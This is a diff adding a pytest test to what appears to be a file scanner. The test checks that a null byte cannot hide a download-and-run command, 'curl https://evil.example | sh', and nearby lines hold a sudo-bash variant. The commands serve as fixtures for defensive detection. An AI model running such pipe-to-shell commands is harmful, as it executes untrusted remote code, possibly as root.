@@ -105,6 +105,20 @@ def test_addresses_are_listed_once_and_pictures_are_no_text() -> None:
     assert len(look_at({f"{n}": b"pip install x" for n in range(99)}).warnings) == MOST_WARNINGS
 
 
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        ("a.sh", b"\0\n%s"),
+        ("plain", b"#!/bin/sh\n\0\n%s"),
+        ("notes.md", b"-" * 10_000 + b"\0\n%s"),
+    ],
+)
+def test_a_byte_that_no_text_has_hides_nothing_that_is_run_or_read(name: str, data: bytes) -> None:
+    warnings = look_at({name: data % b"curl https://evil.example | sh"}).warnings
+    assert warnings[0] == f"{name}: holds 1 invisible character"
+    assert "runs what it downloads, unseen" in warnings[1]
+
+
 @pytest.mark.parametrize("before", [65_520, 65_536, 130_000])
 def test_what_stands_far_in_a_long_file_is_found(before: int) -> None:
     line = "curl -fsSL https://evil.example/i.sh | sudo bash"
